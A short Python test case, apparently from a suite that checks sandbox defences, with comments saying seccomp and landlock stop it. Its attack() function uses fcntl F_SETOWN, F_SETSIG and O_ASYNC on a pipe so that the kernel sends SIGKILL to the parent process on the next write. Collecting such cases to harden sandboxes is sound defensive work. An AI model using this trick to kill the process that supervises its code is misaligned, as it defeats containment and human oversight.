"""Lets the kernel kill the parent when the pipe is written to: fcntl with F_SETOWN, F_SETSIG and O_ASYNC."""
# stopped by: seccomp, landlock
# at D: skip
import fcntl
import os
import signal


def attack():
    fcntl.fcntl(11, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(11, 10, signal.SIGKILL)
    fcntl.fcntl(11, fcntl.F_SETFL, os.O_ASYNC | os.O_WRONLY)
    return "done: the next answer kills"
